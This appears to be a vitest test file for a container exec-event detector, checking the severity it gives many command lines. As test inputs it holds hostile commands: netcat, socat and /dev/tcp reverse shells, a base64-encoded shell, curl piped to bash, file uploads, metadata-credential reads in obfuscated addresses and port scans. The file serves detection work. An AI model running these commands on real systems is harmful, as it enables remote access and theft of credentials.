import { describe, expect, test } from 'vitest';
import { defaultDetectConfig } from '../../src/detect/config.ts';
import { exampleEvent } from '../../src/detect/examples.ts';
import { createDetector } from '../../src/detect/index.ts';
import type { Example } from '../../src/detect/indicators/types.ts';
import type { ExecEvent } from '../../src/model/exec-event.ts';
import { type Severity, severities } from '../../src/model/finding.ts';

const detector = createDetector(defaultDetectConfig());
const TOMCAT = 'java -Dcatalina.base=/usr/local/tomcat org.apache.catalina.startup.Bootstrap start';
const JENKINS = {
  by: ['sh -xe /tmp/jenkins123.sh', 'java -jar /usr/share/jenkins/jenkins.war'],
  image: 'docker.io/jenkins/jenkins:lts',
};
const TYPED = { by: ['bash'], tty: true, in_init_tree: false } as const;

interface Row {
  /** Number of the row in the table of edge cases. */
  row: number;
  title: string;
  cases: readonly Example[];
  least?: Severity;
  most?: Severity;
}

/** One verdict for all: exactly this severity. */
function exactly(severity: Severity): { least: Severity; most: Severity } {
  return { least: severity, most: severity };
}
const none = exactly('none');
const run = (...lines: string[]): Example[] => lines.map((line) => ({ run: line }));

const rows: readonly Row[] = [
  {
    row: 1,
    title: 'programs whose names begin with nc are not netcat',
    cases: run('ncdu /', 'ncal', 'ncdump f.nc'),
    ...none,
  },
  { row: 2, title: 'hostname and hostid are not host', cases: run('hostname -f', 'hostid'), ...none },
  {
    row: 3,
    title: 'help, version and a bare name do nothing',
    cases: run('nc -h', 'curl -V', 'dig -v', 'wget --help', 'nc'),
    ...none,
  },
  {
    row: 4,
    title: 'a tool as argument of another program is not executed',
    cases: run('apk add socat', 'which nmap', 'man nc', "grep 'nc -e' f", 'chmod +x nc'),
    ...none,
  },
  {
    row: 5,
    title: 'a name that contains localhost is no loopback for nc -e',
    cases: run('nc -e /bin/sh x.localhost.evil.example 1'),
    least: 'high',
  },
  {
    row: 6,
    title: 'loopback does not excuse an attached shell and makes it medium',
    cases: run('nc 127.0.0.1 9 -e sh'),
    ...exactly('medium'),
  },
  {
    row: 7,
    title: 'a netcat listener is medium in every spelling',
    cases: run('nc -lvnp4444', 'nc -lp 4444', 'nc -l 4444'),
    ...exactly('medium'),
  },
  { row: 8, title: 'a listener on loopback is at most low', cases: run('nc -l 127.0.0.1 4444'), most: 'low' },
  {
    row: 9,
    title: 'a listener on 0.0.0.0 is open to everyone',
    cases: run('nc -l 0.0.0.0 4444'),
    ...exactly('medium'),
  },
  {
    row: 10,
    title: '0.0.0.0 as destination is local',
    cases: run('curl http://0.0.0.0:8080/health'),
    ...none,
  },
  {
    row: 11,
    title: 'the exec option is found glued and in clusters',
    cases: run('nc -e/bin/sh h 1', 'nc -nve /bin/sh h 1', 'nc -vc bash h 1'),
    least: 'high',
  },
  {
    row: 12,
    title: 'a -c without a command is TLS or close and stays low',
    cases: run('nc -c shop.example 443', 'nc -c db.example 5432'),
    ...exactly('low'),
  },
  {
    row: 13,
    title: 'the rest of the line belongs to -e of busybox nc',
    cases: [{ run: 'nc h 1 -e sh -i', exe: '/bin/busybox' }],
    least: 'high',
  },
  {
    row: 14,
    title: 'the trailing command of toybox nc is a shell without any -e',
    cases: [{ run: 'nc -p 1 -L sh', exe: '/usr/bin/toybox' }],
    least: 'high',
  },
  {
    row: 15,
    title: 'netcat as an applet is netcat',
    cases: [
      { run: 'busybox nc -e sh h 1' },
      { run: '/bin/busybox.static nc h 1 -e sh' },
      { run: '/usr/bin/nc h 1 -e sh', exe: '/bin/busybox' },
    ],
    least: 'high',
  },
  {
    row: 16,
    title: 'busybox alone, its list and its shell with a script are nothing',
    cases: run('busybox', 'busybox --list', 'busybox sh script'),
    ...none,
  },
  {
    row: 17,
    title: 'long options of ncat may be abbreviated or glued',
    cases: run('ncat --sh-ex sh h 1', 'ncat --exec=sh h 1'),
    least: 'high',
  },
  {
    row: 18,
    title: 'socat addresses attach a program in any case and order',
    cases: run('socat TCP-L:1,fork exec:sh', 'socat EXEC:sh tcp-l:1'),
    least: 'high',
  },
  {
    row: 19,
    title: "haproxy's socket is no proxy and no finding",
    cases: run('socat - unix-connect:/run/haproxy.sock'),
    most: 'info',
  },
  {
    row: 20,
    title: "socat to docker's socket is high",
    cases: run('socat - UNIX-CONNECT:/var/run/docker.sock'),
    least: 'high',
  },
  {
    row: 21,
    title: 'curl over a socket of the application is nothing',
    cases: run('curl --unix-socket /run/app.sock http://localhost/'),
    ...none,
  },
  {
    row: 21,
    title: "curl over docker's socket is high whatever the URL says",
    cases: run('curl --unix-socket /var/run/docker.sock http://localhost/'),
    least: 'high',
  },
  {
    row: 22,
    title: 'loopback in userinfo, name or query is as external as the host',
    cases: run(
      'curl http://localhost@198.51.100.1/',
      'curl http://127.0.0.1.x.example/',
      'curl -o /tmp/x http://files.example.com/?q=localhost',
    ),
    least: 'low',
  },
  {
    row: 23,
    title: 'options that send a local name elsewhere take the excuse away',
    cases: run(
      'curl --resolve localhost:80:203.0.113.9 http://localhost/',
      'curl --connect-to ::203.0.113.9: http://localhost/',
      'curl -x http://203.0.113.9:3128 http://localhost/',
    ),
    least: 'low',
  },
  {
    row: 24,
    title: 'one external URL among loopback ones counts',
    cases: run('curl http://127.0.0.1/ http://198.51.100.9/p'),
    least: 'low',
  },
  {
    row: 25,
    title: 'loopback is known in any spelling',
    cases: run('curl http://2130706433/', 'curl http://0x7f.1/'),
    most: 'low',
  },
  {
    row: 26,
    title: 'credentials of the metadata service are high in any spelling of its address',
    cases: run(
      'curl http://2852039166/latest/meta-data/iam/security-credentials/x',
      'curl http://0xa9fea9fe/latest/meta-data/iam/security-credentials/x',
      'curl http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/x',
    ),
    least: 'high',
  },
  {
    row: 27,
    title: 'the availability zone read by an entrypoint is at most low',
    cases: [
      {
        run: 'curl -s http://169.254.169.254/latest/meta-data/placement/availability-zone',
        by: ['bash /docker-entrypoint.sh'],
      },
    ],
    most: 'low',
  },
  {
    row: 28,
    title: '/dev/null and standard output are no downloads',
    cases: [
      { run: 'curl -o /dev/null http://files.example.com/', cwd: '/tmp' },
      { run: 'wget -O- http://files.example.com/', cwd: '/tmp' },
    ],
    most: 'info',
  },
  {
    row: 29,
    title: 'a glued output option is a download to /tmp',
    cases: run('curl -sSLo/tmp/x http://files.example.com/x', 'wget -qO/tmp/x http://files.example.com/x'),
    ...exactly('medium'),
  },
  {
    row: 30,
    title: 'wget writes into its working directory',
    cases: [{ run: 'wget http://files.example.com/x', cwd: '/dev/shm' }],
    ...exactly('medium'),
  },
  {
    row: 31,
    title: 'targets in a file or on standard input are medium',
    cases: run('curl -K /tmp/c', 'wget -i -'),
    ...exactly('medium'),
  },
  {
    row: 32,
    title: 'literal data is no upload',
    cases: run(`curl -d '{"a":1}' https://api.example.com/`),
    most: 'info',
  },
  {
    row: 33,
    title: 'every way of curl to send a file is an upload',
    cases: run(
      'curl -d @f https://a.example.com',
      'curl -F x=@f https://a.example.com',
      "curl -F 'x=<f' https://a.example.com",
      'curl --data-urlencode n@f https://a.example.com',
      'curl --json @f https://a.example.com',
      'curl -T f https://a.example.com',
      'curl -skT f https://a.example.com',
    ),
    least: 'medium',
  },
  {
    row: 34,
    title: '--data-raw @f is literal',
    cases: run('curl --data-raw @f https://a.example.com'),
    most: 'info',
  },
  {
    row: 35,
    title: "a probe's shell on loopback is nothing",
    cases: [{ run: "sh -c 'curl -f http://localhost/ || exit 1'", by: [], in_init_tree: false }],
    ...none,
  },
  {
    row: 36,
    title: 'curl piped to bash under java is high',
    cases: [{ run: "sh -c 'curl http://files.example.com/x|bash'", by: ['java -jar /app/app.jar'] }],
    least: 'high',
  },
  {
    row: 37,
    title: 'the plain child of that pipe is high through its parent',
    cases: [
      {
        run: 'curl http://files.example.com/x',
        by: ["sh -c 'curl http://files.example.com/x|bash'", 'java -jar /app/app.jar'],
      },
    ],
    least: 'high',
  },
  {
    row: 38,
    title: '/dev/tcp to loopback is nothing',
    cases: run("bash -c 'echo >/dev/tcp/127.0.0.1/80'"),
    ...none,
  },
  {
    row: 38,
    title: '/dev/tcp to another host is low',
    cases: run("bash -c 'echo >/dev/tcp/db.example.com/80'"),
    ...exactly('low'),
  },
  {
    row: 38,
    title: '/dev/tcp in a loop over ports is medium',
    cases: run("bash -c 'for p in 22 80 443; do echo >/dev/tcp/10.0.0.5/$p; done'"),
    ...exactly('medium'),
  },
  {
    row: 38,
    title: '/dev/tcp with a shell on it is high',
    cases: run("bash -c 'bash -i >& /dev/tcp/host.example.com/80 0>&1'"),
    least: 'high',
  },
  {
    row: 39,
    title: 'an encoded script is decoded and judged',
    cases: run(`sh -c 'echo ${btoa('bash -i >& /dev/tcp/203.0.113.9/443 0>&1')} | base64 -d | bash'`),
    least: 'high',
  },
  {
    row: 39,
    title: 'what cannot be decoded is at most medium under a server',
    cases: [{ run: "sh -c 'cat /app/x | base64 -d | sh'", by: ['java -jar /app/app.jar'] }],
    most: 'medium',
  },
  {
    row: 40,
    title: 'the program that a loader runs is what counts',
    cases: run('/lib64/ld-linux-x86-64.so.2 --library-path x /tmp/nc 10.0.0.5 5432'),
    least: 'high',
  },
  {
    row: 41,
    title: 'curl from memory or through a descriptor is high',
    cases: [
      {
        run: '/proc/self/fd/5 -s http://files.example.com/a',
        exe: '/memfd:x',
        argv0: 'curl',
        file: { memfd: true },
      },
      { run: '/proc/self/fd/5 -s http://files.example.com/a -o /x' },
    ],
    least: 'high',
  },
  {
    row: 42,
    title: 'an upper-layer file that probes loopback is at most info',
    cases: [{ run: '/usr/bin/curl http://localhost/', file: { upper_layer: true } }],
    most: 'info',
  },
  {
    row: 43,
    title: 'nmap freshly installed by hand is medium',
    cases: [{ ...TYPED, run: '/usr/bin/nmap -sT 10.0.0.5', file: { upper_layer: true } }],
    ...exactly('medium'),
  },
  {
    row: 44,
    title: 'a go test that asks localhost is nothing',
    cases: [
      {
        run: 'curl -sf http://localhost:35123/',
        by: ['/tmp/go-build1/b001/x.test -test.v', 'go test ./api'],
        image: 'docker.io/library/golang:1.22',
      },
    ],
    ...none,
  },
  {
    row: 44,
    title: 'a go test that asks the Internet is at most medium',
    cases: [
      {
        run: 'curl -sf https://www.example.com/',
        by: ['/tmp/go-build1/b001/x.test -test.v', 'go test ./api'],
        image: 'docker.io/library/golang:1.22',
      },
    ],
    most: 'medium',
  },
  {
    row: 44,
    title: 'a go test that gives a shell away is high',
    cases: [
      {
        run: 'nc -e /bin/sh 203.0.113.9 443',
        by: ['/tmp/go-build1/b001/x.test -test.v', 'go test ./api'],
        image: 'docker.io/library/golang:1.22',
      },
    ],
    least: 'high',
  },
  {
    row: 45,
    title: 'a Jenkins step that fetches an artifact is at most medium',
    cases: [
      {
        ...JENKINS,
        run: 'curl -o lib.zip https://artifacts.example.com/lib.zip',
        cwd: '/var/jenkins_home/workspace/x',
      },
    ],
    most: 'medium',
  },
  {
    row: 45,
    title: 'a Jenkins step that pipes a bare address to bash is high',
    cases: [{ ...JENKINS, run: "bash -c 'curl http://198.51.100.7/x | bash'" }],
    least: 'high',
  },
  {
    row: 46,
    title: 'an installer by name in gitlab-runner is at most medium',
    cases: [
      {
        run: "bash -c 'curl -s https://get.example.com/install.sh | bash'",
        by: ['bash', 'gitlab-runner-helper run'],
      },
      {
        run: 'curl -s https://get.example.com/install.sh',
        by: ["bash -c 'curl -s https://get.example.com/install.sh | bash'", 'gitlab-runner-helper run'],
      },
    ],
    most: 'medium',
  },
  {
    row: 46,
    title: 'a shell given away in gitlab-runner is high',
    cases: [{ run: 'nc -e /bin/sh build.example.com 443', by: ['bash', 'gitlab-runner-helper run'] }],
    least: 'high',
  },
  {
    row: 47,
    title: 'nslookup in kubectl exec is low',
    cases: [{ ...TYPED, run: 'nslookup db' }],
    ...exactly('low'),
  },
  {
    row: 47,
    title: 'nslookup in a debug image is at most low',
    cases: [{ ...TYPED, run: 'nslookup db', image: 'docker.io/nicolaka/netshoot:v0.12' }],
    most: 'low',
  },
  {
    row: 48,
    title: 'an init container that waits for a name is at most low',
    cases: [{ run: 'nslookup db', by: ["sh -c 'until nslookup db; do sleep 2; done'"] }],
    most: 'low',
  },
  {
    row: 49,
    title: 'the flag of a probe is no amnesty for a pipe to sh',
    cases: [
      { run: "sh -c 'curl http://198.51.100.7/x | sh'", by: [], in_init_tree: false, exec_probe: true },
    ],
    least: 'high',
  },
  {
    row: 53,
    title: 'an ACME record is at most low',
    cases: run('dig +short TXT _acme-challenge.x.example'),
    most: 'low',
  },
  {
    row: 54,
    title: 'a hexadecimal label under node is medium or more',
    cases: [{ run: 'nslookup 0123456789abcdef0123456789abcdef.a.example', by: ['sh', 'node server.js'] }],
    least: 'medium',
  },
  { row: 56, title: 'getent of users is nothing', cases: run('getent passwd root'), ...none },
  {
    row: 57,
    title: 'ssh -V and ssh-keygen are nothing',
    cases: run('ssh -V', 'ssh-keygen -t ed25519 -f /app/k'),
    ...none,
  },
  {
    row: 57,
    title: 'git over ssh by argocd is at most low',
    cases: [
      {
        run: "ssh -o SendEnv=GIT_PROTOCOL git@git.example.com 'git-upload-pack x'",
        by: ['git fetch origin', 'argocd-repo-server'],
        image: 'quay.io/argoproj/argocd:v2.11.0',
      },
    ],
    most: 'low',
  },
  {
    row: 58,
    title: 'localhost in a remote forward is not the peer',
    cases: run('ssh -R 1:localhost:22 u@203.0.113.9'),
    least: 'medium',
  },
  {
    row: 59,
    title: 'cloudflared as the first process of its image is at most info',
    cases: [
      { run: 'cloudflared tunnel run --token x', by: [], image: 'docker.io/cloudflare/cloudflared:2024.5.0' },
    ],
    most: 'info',
  },
  {
    row: 59,
    title: 'cloudflared dropped into a web application is medium or more',
    cases: [
      { run: '/app/cloudflared tunnel run --token x', by: ['sh'], image: 'docker.io/library/wordpress:6.5' },
    ],
    least: 'medium',
  },
  {
    row: 60,
    title: "netcat under a kernel thread's name is high",
    cases: [
      { run: '/usr/bin/nc db.example.com 443', argv0: '[kworker/0:0]' },
      { run: '/usr/bin/nc -e /bin/sh db.example.com 443' },
    ],
    least: 'high',
  },
  {
    row: 62,
    title: 'inline python that asks localhost is nothing',
    cases: run(`python3 -c "import urllib.request; urllib.request.urlopen('http://localhost:8000/health')"`),
    ...none,
  },
  {
    row: 63,
    title: 'openssl without networking is nothing',
    cases: run('openssl x509 -in c.pem -noout', 'openssl req -new -key k', 'openssl dgst -sha256 f'),
    ...none,
  },
  {
    row: 63,
    title: 'openssl s_client alone stays below medium',
    cases: run('openssl s_client -connect www.example.com:443'),
    most: 'low',
  },
  {
    row: 63,
    title: 'openssl s_client under a server is medium',
    cases: [{ run: 'openssl s_client -connect www.example.com:443', by: ['sh', TOMCAT] }],
    least: 'medium',
  },
  {
    row: 64,
    title: 'ping under java is low',
    cases: [{ run: 'ping -c1 x.oob.example', by: ['sh', 'java -jar /app/app.jar'] }],
    ...exactly('low'),
  },
  { row: 65, title: 'tcpdump -D only lists', cases: run('tcpdump -D'), ...none },
  {
    row: 66,
    title: 'an unknown program in a hidden directory is not ours',
    cases: run('/opt/.x/agent --config /opt/.x/c.json'),
    ...none,
  },
  {
    row: 67,
    title: 'a single internal port by an entrypoint is at most low',
    cases: [{ run: 'nc -z db.shop.svc 5432', by: ['sh /docker-entrypoint.sh'] }],
    most: 'low',
  },
  {
    row: 67,
    title: 'a single internal port by a child of a web server is medium',
    cases: [{ run: 'nc -z db.shop.svc 5432', by: ['sh', TOMCAT] }],
    ...exactly('medium'),
  },
  { row: 67, title: 'a range of ports is medium', cases: run('nc -z 10.0.0.5 1-1024'), ...exactly('medium') },
  {
    row: 68,
    title: 'xargs around nslookup hides the names and is medium',
    cases: run('xargs -I{} nslookup {}.d.example'),
    ...exactly('medium'),
  },
  {
    row: 69,
    title: 'the askpass file of wget is executed and the host is a decoy',
    cases: run('wget --use-askpass=/app/x 0'),
    ...exactly('medium'),
  },
  {
    row: 70,
    title: 'fping from zabbix is at most low',
    cases: [
      {
        run: 'fping -C3 10.0.0.1',
        by: ["sh -c 'fping -C3 10.0.0.1'", 'zabbix_server -f'],
        image: 'docker.io/zabbix/zabbix-server-mysql:7.0',
      },
    ],
    most: 'low',
  },
  {
    row: 70,
    title: 'fping from a web shell is high',
    cases: [
      {
        run: 'fping -g 10.0.0.0/24',
        by: ["sh -c 'fping -g 10.0.0.0/24'", 'apache2 -DFOREGROUND'],
        image: 'docker.io/library/wordpress:6.5',
      },
    ],
    least: 'high',
  },
];

function inRange(severity: Severity, row: Row): boolean {
  const at = severities.indexOf(severity);
  return at >= severities.indexOf(row.least ?? 'none') && at <= severities.indexOf(row.most ?? 'critical');
}

for (const row of rows) {
  test(`case ${row.row}: ${row.title}`, () => {
    for (const example of row.cases) {
      const verdict = detector.judge(exampleEvent(example));
      expect(
        inRange(verdict.severity, row),
        `${example.run}: ${verdict.severity} ${verdict.score} ${verdict.indicators.map((hit) => hit.id)}`,
      ).toBe(true);
    }
  });
}

test('case 50: the argument of runc outside the container is no evidence', () => {
  // Every example ends with runc --process /tmp/runc-process1 outside.
  const verdict = detector.judge(exampleEvent({ run: 'nslookup db.example.com', by: [] }));
  expect(verdict.indicators.map((hit) => hit.id)).not.toContain('anc_location');
});

test("case 51: the shim's home outside the container is no evidence", () => {
  const event = exampleEvent({ run: 'nslookup db.example.com', by: [] });
  const shim = {
    ...event.ancestors[0]!,
    binary: '/home/kubernetes/bin/.x/containerd-shim-runc-v2',
    exe: '/var/lib/rancher/k3s/data/x/bin/containerd-shim',
    place: 'unknown' as const,
  };
  const verdict = detector.judge({ ...event, ancestors: [shim] });
  expect(verdict.indicators.map((hit) => hit.id)).not.toContain('anc_location');
});

test('case 52: a process of the host is out of scope', () => {
  const { container: _container, pod: _pod, ...event } = exampleEvent({ run: 'nc -e /bin/sh 203.0.113.9 1' });
  expect(detector.judge(event as ExecEvent).severity).toBe('none');
});

test('case 55: a pod name with its hashes has no encoded label', () => {
  const verdict = detector.judge(
    exampleEvent({ run: 'nslookup web-7d9f8c6b5-x2x4z.ns.svc', by: ['sh', 'node server.js'] }),
  );
  expect(verdict.indicators.map((hit) => hit.id)).not.toContain('encoded_label');
});

describe('case 61: hostile arguments', () => {
  const base = exampleEvent({ run: 'nc -e /bin/sh 203.0.113.9 1' });
  const withArgv = (argv: string[]): ExecEvent => ({ ...base, process: { ...base.process, argv } });

  test('no argv and an empty argv[0] crash nothing', () => {
    expect(detector.judge(withArgv([])).severity).toBe('none');
    expect(detector.judge(withArgv([''])).severity).toBe('none');
  });
  test('NUL, newline, invalid UTF-8 and bidi characters crash nothing and hide nothing', () => {
    const verdict = detector.judge(withArgv(['nc', '-e', '/bin/sh', 'a\u0000b\n\ufffd\u202e', '1']));
    expect(verdict.severity).toBe('high');
    expect(detector.judge(withArgv(['nc', 'a\u0000b', '\n'])).severity).not.toBe('none');
  });
  test('an argument of 100 kB crashes nothing and hides nothing', () => {
    expect(
      severities.indexOf(
        detector.judge(withArgv(['nc', 'x'.repeat(100_000), '-e', '/bin/sh', 'h', '1'])).severity,
      ),
    ).toBeGreaterThanOrEqual(severities.indexOf('high'));
  });
  test('the mark of truncation lowers nothing', () => {
    const event = {
      ...base,
      process: { ...base.process, argv_quality: 'truncated' as const, arguments: '-e /bin/sh 203.0.113.9 1' },
    };
    expect(detector.judge(event).severity).toBe(detector.judge(base).severity);
  });
});
